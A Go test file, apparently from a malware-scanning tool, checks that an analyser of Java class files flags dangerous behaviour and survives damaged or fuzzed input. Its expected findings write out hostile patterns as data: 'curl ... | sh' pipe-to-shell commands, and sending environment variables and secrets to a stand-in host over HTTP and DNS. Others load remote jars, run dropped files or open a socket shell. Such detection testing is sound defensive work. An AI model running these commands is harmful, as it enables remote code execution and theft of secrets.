package class_test

import (
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/gatehouse-project/gatehouse/internal/code/class"
	"github.com/gatehouse-project/gatehouse/internal/code/codetest"
)

func TestAnalyze(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ class, want string }{
		{"PipeToShell", "exec java.lang.Runtime.exec [/bin/sh|-c|curl -s https://c.example.invalid/x | sh] @<clinit>"},
		{"BuilderOfLetters", "exec java.lang.ProcessBuilder.start [sh|-c|curl -s http://c.invalid | sh] @go ~call !"},
		{"LoopOfNumbers", "exec java.lang.Runtime.exec [true] @main ~main !"},
		{"ByReflection", "exec java.lang.Runtime.exec [true] @go ~call !"},
		{"EnvironmentAway", "send java.io.OutputStream.write [https://c.example.invalid/i] <env-all @go ~call"},
		{"HeaderAway", "send java.net.URLConnection.getInputStream [https://c.example.invalid/i] <read-file,secret @<clinit>"},
		{"DecodedLoader", "eval DecodedLoader.defineClass [|\ufffdinert|0] <decode @go ~call !"},
		{"RemoteLoader", "eval java.net.URLClassLoader [https://c.example.invalid/p.jar] <fetch @go ~call"},
		{"Dropper", "exec java.lang.ProcessBuilder.start [sh|/tmp/a.sh] <file:fetch @go ~call"},
		{"Streamed", "exec java.lang.Runtime.exec [/tmp/.a] <file:fetch @go ~call"},
		{"ShellOverSocket", "exec java.lang.Runtime.exec <socket @go ~call"},
		{"InLambda", "exec java.lang.Runtime.exec [true] @lambda$static$0"},
		{"Choice", "exec java.lang.Runtime.exec [cmd|/c|true] @go ~call"},
		{"Choice", "exec java.lang.Runtime.exec [sh|-c|true] @go ~call"},
		{"KeyInDns", "dns java.net.InetAddress.getByName [.c.example.invalid] <read-file,secret @go ~call"},
		{"Recipe", "send java.net.http.HttpClient.send [https://c.example.invalid/] <read-file,secret @go ~call"},
		{"Recipe", "eval javax.script.ScriptEngine.eval <fetch @script ~call"},
	} {
		if got := codetest.Show(class.Analyze(read(t, c.class))); !slices.Contains(got, c.want) {
			t.Errorf("%s lacks %s\ngot\n%q", c.class, c.want, got)
		}
	}
	if got := codetest.Show(class.Analyze(read(t, "Harmless"))); len(got) > 0 {
		t.Errorf("a harmless class has facts: %q", got)
	}
}

func read(t testing.TB, name string) []byte {
	b, err := os.ReadFile(filepath.Join("testdata", name+".class"))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestDamagedClasses: jumps that lead out of the code, tables that end too early and
// constants of the wrong kind end the reading, and do not stop it.
func TestDamagedClasses(t *testing.T) {
	files, err := filepath.Glob("testdata/*.class")
	if err != nil || len(files) == 0 {
		t.Fatal("no classes to damage", err)
	}
	r := rand.New(rand.NewPCG(1, 1))
	for range 3_000 {
		b, err := os.ReadFile(files[r.IntN(len(files))])
		if err != nil {
			t.Fatal(err)
		}
		for range 1 + r.IntN(6) {
			b[r.IntN(len(b))] = byte(r.IntN(256))
		}
		class.Analyze(b)
	}
}

// FuzzAnalyze: whatever the bytes are, the reader ends and does not panic.
func FuzzAnalyze(f *testing.F) {
	files, err := filepath.Glob("testdata/*.class")
	if err != nil || len(files) == 0 {
		f.Fatal("no classes to start from", err)
	}
	for _, name := range files {
		b, err := os.ReadFile(name)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b)
	}
	f.Fuzz(func(t *testing.T, b []byte) { class.Analyze(b) })
}
